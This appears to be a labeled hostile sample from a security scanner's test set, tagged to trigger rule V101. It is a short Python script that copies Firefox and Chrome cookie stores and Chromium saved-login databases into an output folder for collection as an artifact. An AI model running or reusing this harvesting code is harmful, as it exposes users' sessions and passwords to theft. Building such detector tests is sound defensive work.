# label: hostile
# expect: V101
# note: Copies browser profiles' cookie stores into the work directory to be collected as an artifact.
# allow: V102
import glob
import os
import shutil
import sqlite3

HOME = os.path.expanduser("~")
PATTERNS = [
    HOME + "/.mozilla/firefox/*/cookies.sqlite",
    HOME + "/.config/google-chrome/*/Cookies",
    HOME + "/.config/chromium/*/Login Data",
]

os.makedirs("out", exist_ok=True)
for pattern in PATTERNS:
    for n, path in enumerate(glob.glob(pattern)):
        copy = f"out/{n}.db"
        shutil.copy(path, copy)
        db = sqlite3.connect(copy)
        tables = [t for (t,) in db.execute("select name from sqlite_master")]
        print(path, tables)
